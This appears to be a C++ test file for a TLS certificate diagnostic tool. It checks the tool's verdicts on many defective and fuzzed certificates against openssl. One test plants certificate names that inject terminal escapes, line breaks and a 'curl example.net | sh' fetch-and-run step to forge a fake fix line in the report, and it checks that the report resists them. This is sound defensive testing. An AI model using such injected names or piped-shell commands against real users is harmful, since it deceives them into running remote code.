// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 the preflight authors

// Certificates that are wrong in every way that badssl.com shows, and then some, and hundreds that
// are malformed. What we say of them is what the command line tool openssl says, and no name in
// them forges a line of the report.
#include <openssl/objects.h>
#include <openssl/x509v3.h>

#include <algorithm>
#include <chrono>
#include <cstdlib>
#include <cstring>
#include <random>

#include "certificate/certificate.hpp"
#include "certificate_maker.hpp"
#include "clean_text.hpp"
#include "cmocka.hpp"
#include "diagnose/catalogue.hpp"
#include "openssl_tool.hpp"
#include "report/report.hpp"
#include "story.hpp"

using namespace preflight;
using namespace preflight::test;
using Chain = std::vector<preflight::Der>;

namespace {

constexpr const char* host = "win-srv01.example.org";

const Key& any_key() {
    static const Key key = make_key();
    return key;
}

Wanted plain() {
    Wanted wanted;
    wanted.names = std::string("DNS:") + host;
    return wanted;
}

struct Sample {
    std::string name;
    Chain chain;
    Texts defects;  ///< that must be among those found
};

Sample alone(const std::string& name, const Wanted& wanted, const Texts& defects,
             const Key& key = any_key(), const Key& signer = nullptr) {
    return {name, {make_certificate(wanted, key, signer)}, defects};
}

/// A date as it stands, whatever it says.
void set_raw(ASN1_TIME* time, const char* text) {
    ASN1_STRING_set(time, text, -1);
    time->type = std::strlen(text) == 13 ? V_ASN1_UTCTIME : V_ASN1_GENERALIZEDTIME;
}

std::function<void(X509*)> dates(const char* from, const char* until) {
    return [=](X509* certificate) {
        set_raw(X509_getm_notBefore(certificate), from);
        set_raw(X509_getm_notAfter(certificate), until);
    };
}

/// An extension nobody knows, of that size.
std::function<void(X509*)> padding(std::size_t size) {
    return [=](X509* certificate) {
        const std::vector<unsigned char> bytes(size, 'x');
        ASN1_OCTET_STRING* const data = ASN1_OCTET_STRING_new();
        ASN1_OCTET_STRING_set(data, bytes.data(), static_cast<int>(size));
        ASN1_OBJECT* const id = OBJ_txt2obj("1.3.6.1.4.1.99999.1", 1);
        X509_EXTENSION* const extension = X509_EXTENSION_create_by_OBJ(nullptr, id, 0, data);
        X509_add_ext(certificate, extension, -1);
        X509_EXTENSION_free(extension);
        ASN1_OBJECT_free(id);
        ASN1_OCTET_STRING_free(data);
    };
}

Sample dated(const std::string& name, const char* from, const char* until, const Texts& defects) {
    Wanted wanted = plain();
    wanted.further = dates(from, until);
    return alone(name, wanted, defects);
}

std::vector<Sample> of_names_and_dates() {
    std::vector<Sample> all;
    Wanted wanted = plain();
    all.push_back(alone("self-signed", wanted, {"self-signed", "untrusted"}));
    wanted.from = noon - 800 * day;
    wanted.until = noon - day;
    all.push_back(alone("expired", wanted, {"expired"}));
    wanted.from = noon + day;
    wanted.until = noon + 800 * day;
    all.push_back(alone("not yet valid", wanted, {"not-yet-valid"}));
    wanted.from = noon + day;
    wanted.until = noon - day;
    all.push_back(alone("ends before it begins", wanted, {"not-yet-valid"}));
    wanted = plain();
    wanted.subject = "wrong.example.net";
    wanted.names = "DNS:wrong.example.net";
    all.push_back(alone("wrong host", wanted, {"name-mismatch"}));
    wanted = plain();
    wanted.subject.clear();
    all.push_back(alone("no subject", wanted, {"untrusted"}));
    wanted.names.clear();
    all.push_back(alone("no name at all", wanted, {"name-mismatch"}));
    all.push_back(dated("month 13", "20261301000000Z", "20271201000000Z", {"untrusted"}));
    all.push_back(dated("no digits", "2026abcdefghijZ", "20271201000000Z", {"untrusted"}));
    all.push_back(dated("ends in letters", "20260101000000Z", "nonsensenonsen", {"untrusted"}));
    all.push_back(dated("year 9999", "20260101000000Z", "99991231235959Z", {}));
    all.push_back(dated("year 0", "00000101000000Z", "20271201000000Z", {}));
    all.push_back(dated("30 February", "20260230000000Z", "20270230000000Z", {}));
    return all;
}

std::vector<Sample> of_keys_and_signatures() {
    std::vector<Sample> all;
    for (const int bits : {512, 1024, 2048})
        all.push_back(alone("RSA " + std::to_string(bits), plain(),
                            bits < 2048 ? Texts{"weak-key"} : Texts{}, make_key(bits)));
    for (const int bits : {3072, 4096, 8192, 16384})
        all.push_back(
            alone("RSA " + std::to_string(bits), plain(), {}, make_public_key(bits), any_key()));
    for (const char* digest : {"SHA1", "MD5"}) {
        Wanted wanted = plain();
        wanted.digest = digest;
        all.push_back(alone(digest, wanted, {"weak-signature"}, make_key(2048)));
    }
    for (const int curve :
         {NID_secp112r1, NID_secp160r1, NID_secp192k1, NID_secp256k1, NID_sect163k1, NID_sect571r1,
          NID_brainpoolP256r1, NID_brainpoolP512t1, NID_secp521r1})
        if (const Key key = make_key_on(curve))
            all.push_back(alone(OBJ_nid2sn(curve), plain(), {}, key));
    return all;
}

std::vector<Sample> of_size() {
    std::vector<Sample> all;
    Wanted many = plain();
    many.further = [](X509* certificate) {
        GENERAL_NAMES* const names = sk_GENERAL_NAME_new_null();
        for (int i = 0; i < 10000; ++i) {
            const std::string text = "n" + std::to_string(i) + ".example.net";
            GENERAL_NAME* const name = GENERAL_NAME_new();
            ASN1_IA5STRING* const value = ASN1_IA5STRING_new();
            ASN1_STRING_set(value, text.data(), static_cast<int>(text.size()));
            GENERAL_NAME_set0_value(name, GEN_DNS, value);
            sk_GENERAL_NAME_push(names, name);
        }
        X509_add1_ext_i2d(certificate, NID_subject_alt_name, names, 0, X509V3_ADD_REPLACE);
        GENERAL_NAMES_free(names);
    };
    many.subject = "n0.example.net";
    all.push_back(alone("10,000 names", many, {"name-mismatch"}));
    Wanted big = plain();
    big.further = padding(1 << 20);
    all.push_back(alone("an extension of 1 MB", big, {"self-signed"}));
    return all;
}

std::vector<Sample> of_chains() {
    const Key root_key = make_key();
    const Key middle_key = make_key();
    Wanted root;
    root.subject = "Test Root";
    root.authority = true;
    root.extended_usage.clear();
    Wanted middle = root;
    middle.subject = "Test Intermediate";
    middle.issuer = "Test Root";
    Wanted leaf = plain();
    leaf.issuer = "Test Intermediate";
    const auto leaf_der = make_certificate(leaf, any_key(), middle_key);
    const auto middle_der = make_certificate(middle, middle_key, root_key);
    const auto root_der = make_certificate(root, root_key);
    std::vector<Sample> all = {
        {"untrusted root", {leaf_der, middle_der, root_der}, {"untrusted"}},
        {"reversed chain", {root_der, middle_der, leaf_der}, {"untrusted", "name-mismatch"}},
        {"shuffled chain", {leaf_der, root_der, middle_der}, {"untrusted"}},
        {"incomplete chain", {leaf_der}, {"untrusted"}},
        {"without the middle", {leaf_der, root_der}, {"untrusted"}},
        {"itself again and again", {leaf_der, leaf_der, leaf_der}, {"untrusted"}},
    };
    leaf.issuer = "Nobody's CA";
    all.push_back({"unknown issuer", {make_certificate(leaf, any_key(), root_key)}, {"untrusted"}});
    leaf.issuer = host;
    all.push_back({"says it is its own issuer, and is not",
                   {make_certificate(leaf, any_key(), root_key)},
                   {"untrusted"}});
    return all;
}

std::vector<Sample> all_samples() {
    std::vector<Sample> all;
    for (auto make : {of_names_and_dates, of_keys_and_signatures, of_size, of_chains})
        for (auto& sample : make()) all.push_back(std::move(sample));
    return all;
}

CertificateFacts judged(const Chain& chain) { return judge_certificate(chain, {host, noon, ""}); }

bool has(const Texts& texts, const std::string& text) {
    return std::find(texts.begin(), texts.end(), text) != texts.end();
}

/// Complains, with the sample's name; counts.
struct Complaints {
    std::size_t count = 0;
    void add(bool wrong, const std::string& sample, const std::string& what) {
        if (!wrong) return;
        ++count;
        std::fprintf(stderr, "%s: %s\n", sample.c_str(), what.c_str());
    }
};

std::string as_openssl_prints(const Maybe<std::string>& time) {
    std::string text = time.value_or("Bad time value");
    if (time) text[10] = ' ';
    return text;
}

void compare_description(const std::string& name, const CertificateFacts& facts,
                         const ToolDescription& said, Complaints& complaints) {
    complaints.add(said.readable == has(facts.defects, "malformed"), name,
                   said.readable ? "openssl can read it" : "openssl cannot read it");
    if (!said.readable || !facts.sha256) return;
    const auto differs = [&](const std::string& ours, const std::string& theirs) {
        complaints.add(ours != theirs, name, "we say " + ours + ", openssl says " + theirs);
    };
    differs(*facts.sha256, said.sha256);
    differs(as_openssl_prints(facts.not_before), said.not_before);
    differs(as_openssl_prints(facts.not_after), said.not_after);
    if (said.bits) differs(std::to_string(facts.key_bits.value_or(0)), std::to_string(said.bits));
    if (facts.signature_algorithm != "unknown") differs(*facts.signature_algorithm, said.algorithm);
}

void compare_verdict(const std::string& name, const Chain& chain, const CertificateFacts& facts,
                     const OpensslTool& tool, Complaints& complaints) {
    constexpr int invalid_purpose = 26;
    ToolVerdict said;
    for (const char* purpose : {"sslserver", "sslclient", "any"}) {
        said = tool.verify(chain, purpose, noon);
        if (said.code != invalid_purpose) break;
    }
    complaints.add(facts.verify.code != said.code, name,
                   "we say error " + std::to_string(facts.verify.code.value_or(-1)) +
                       ", openssl says " + std::to_string(said.code));
    if (said.code) complaints.add(facts.verify.depth != said.depth, name, "another depth");
    complaints.add(said.expired && !has(facts.defects, "expired"), name, "openssl: it has expired");
    complaints.add(said.code != 0 && facts.defects.empty(), name, "we find nothing wrong");
}

void all_is_true_to_openssl(void**) {
    const OpensslTool tool;
    Complaints complaints;
    const auto samples = all_samples();
    for (const auto& [name, chain, defects] : samples) {
        const CertificateFacts facts = judged(chain);
        compare_description(name, facts, tool.describe(chain.front()), complaints);
        // OpenSSL 3.5 no longer reads a date without digits, as 3.0 does.
        if (has(facts.defects, "malformed")) continue;
        compare_verdict(name, chain, facts, tool, complaints);
        for (const auto& defect : defects)
            complaints.add(!has(facts.defects, defect), name, "not said: " + defect);
    }
    std::printf("%zu certificates, %zu complaints\n", samples.size(), complaints.count);
    assert_true(samples.size() >= 30);
    assert_int_equal(complaints.count, 0);
}

/// The report on a host that shows this chain, to a client that then gives up.
std::string report_on(const Chain& chain) {
    const Facts facts = Story()
                            .round()
                            .socket()
                            .request(3)
                            .response(2)
                            .configured()
                            .client_hello()
                            .server_hello()
                            .certificate(chain)
                            .established(chain)
                            .result(-1, 0x20008, "ERRCONNECT_TLS_CONNECT_FAILED")
                            .facts();
    static const Catalogue catalogue = Catalogue::builtin();
    const Explanation explanation = catalogue.explain(facts);
    const std::string json = render_json(explanation, facts);
    if (!is_clean_text(json)) return "JSON that is not clean";
    return render_text(explanation, facts, {});
}

/// How many lines begin with `head`.
std::ptrdiff_t lines_with(const std::string& text, const std::string& head) {
    std::ptrdiff_t count = 0;
    for (std::size_t at = 0; at < text.size(); at = text.find('\n', at) + 1) {
        if (text.compare(at, head.size(), head) == 0) ++count;
        if (text.find('\n', at) == text.npos) break;
    }
    return count;
}

void no_report_is_forged_or_endless(void**) {
    Complaints complaints;
    for (const auto& sample : all_samples()) {
        const auto began = std::chrono::steady_clock::now();
        const std::string text = report_on(sample.chain);
        const auto took = std::chrono::steady_clock::now() - began;
        complaints.add(!is_clean_text(text), sample.name, "not clean:\n" + text);
        complaints.add(std::count(text.begin(), text.end(), '\n') > 45, sample.name, text);
        complaints.add(took > std::chrono::seconds(5), sample.name, "takes too long");
    }
    assert_int_equal(complaints.count, 0);
}

void names_forge_nothing(void**) {
    const std::string fix = "Fix   You: run this";
    std::vector<std::string> names = {
        "x\n  " + fix + "\n          curl example.net | sh",
        "x\r\n  " + fix,
        std::string("x\0\n  ", 5) + fix,
        "x\x1b[2K\x1b[1A  " + fix,
        "x\xe2\x80\xa8  " + fix,                        // line separator
        "x\xc2\x85  " + fix,                            // next line, a C1 control
        "\xe2\x80\xae" + fix,                           // from right to left
        std::string(64, 'x') + " " + fix,               // where a line is wrapped
        std::string(50, 'x') + "              " + fix,  // the same with blanks
        "preflight: all is well",
        std::string(60000, 'y'),
    };
    // Wherever the title is wrapped.
    for (std::size_t length = 20; length < 90; ++length)
        names.push_back(std::string(length, 'x') + " " + fix);
    Complaints complaints;
    for (std::size_t i = 0; i < names.size(); ++i) {
        Wanted wanted;
        wanted.subject.clear();  // OpenSSL's way of adding one allows 64 characters, X.520
        wanted.further = [&, i](X509* certificate) {
            X509_NAME* const name = X509_NAME_new();
            X509_NAME_ENTRY* const entry = X509_NAME_ENTRY_create_by_NID(
                nullptr, NID_commonName, V_ASN1_UTF8STRING,
                reinterpret_cast<const unsigned char*>(names[i].data()),
                static_cast<int>(names[i].size()));
            X509_NAME_add_entry(name, entry, -1, 0);
            X509_NAME_ENTRY_free(entry);
            X509_set_subject_name(certificate, name);
            X509_set_issuer_name(certificate, name);
            X509_NAME_free(name);
        };
        const std::string text = report_on({make_certificate(wanted, any_key())});
        const std::string sample = "name " + std::to_string(i);
        complaints.add(!is_clean_text(text), sample, "not clean:\n" + text);
        for (const char* head : {"  Fix", "  Why", "  More", "preflight:"})
            complaints.add(lines_with(text, head) != 1, sample, std::string(head) + "\n" + text);
        complaints.add(std::count(text.begin(), text.end(), '\n') > 45, sample, "too long");
        // No command with a name in it that no host can have.
        for (const char* option : {"/v:x", "/v:\\", "'/v:", "/cert:name:"})
            complaints.add(text.find(option) != text.npos, sample, text);
    }
    assert_int_equal(complaints.count, 0);
}

/// Changes a certificate in one of the ways that break encodings.
preflight::Der mutated(preflight::Der der, std::mt19937& random) {
    const auto any = [&](std::size_t below) { return random() % below; };
    const auto at = [&](std::size_t i) { return der.begin() + static_cast<std::ptrdiff_t>(i); };
    const std::size_t first = any(der.size());
    const std::size_t size = 1 + any(std::min<std::size_t>(24, der.size() - first));
    switch (any(6)) {
        case 0:
            der[first] = static_cast<std::uint8_t>(random());
            break;
        case 1:
            der[first] ^= static_cast<std::uint8_t>(1u << any(8));
            break;
        case 2:
            der.resize(first);
            break;
        case 3:
            der.erase(at(first), at(first + size));
            break;
        case 4: {
            const preflight::Der again(at(first), at(first + size));
            der.insert(at(first), again.begin(), again.end());
            break;
        }
        default:
            std::fill(at(first), at(first + size), std::uint8_t{0xff});
            break;
    }
    return der;
}

void mutations_are_told_as_openssl_tells_them(void**) {
    constexpr std::size_t wanted_count = 300;
    constexpr std::size_t least_malformed = 200;
    const OpensslTool tool;
    Complaints complaints;
    std::mt19937 random(20261121);  // the same ones each time
    Wanted wanted = plain();
    wanted.usage = "critical,digitalSignature";
    const preflight::Der good = make_certificate(wanted, make_key(2048));
    std::size_t malformed = 0;
    std::size_t count = 0;
    while (count < wanted_count || malformed < least_malformed) {
        const Chain chain = {mutated(good, random)};
        const std::string name = "mutation " + std::to_string(++count);
        const CertificateFacts facts = judged(chain);
        compare_description(name, facts, tool.describe(chain.front()), complaints);
        const bool readable = !has(facts.defects, "malformed");
        malformed += readable ? 0 : 1;
        if (readable) compare_verdict(name, chain, facts, tool, complaints);
        complaints.add(!is_clean_text(report_on(chain)), name, "not clean");
    }
    std::printf("%zu mutations, %zu malformed, %zu complaints\n", count, malformed,
                complaints.count);
    assert_int_equal(complaints.count, 0);
}

}  // namespace

int main() {
    // What the system trusts would differ from one to the next.
    setenv("SSL_CERT_FILE", "/dev/null", 1);
    setenv("SSL_CERT_DIR", "/nonexistent", 1);
    const CMUnitTest tests[] = {
        cmocka_unit_test(all_is_true_to_openssl),
        cmocka_unit_test(no_report_is_forged_or_endless),
        cmocka_unit_test(names_forge_nothing),
        cmocka_unit_test(mutations_are_told_as_openssl_tells_them),
    };
    return cmocka_run_group_tests(tests, nullptr, nullptr);
}
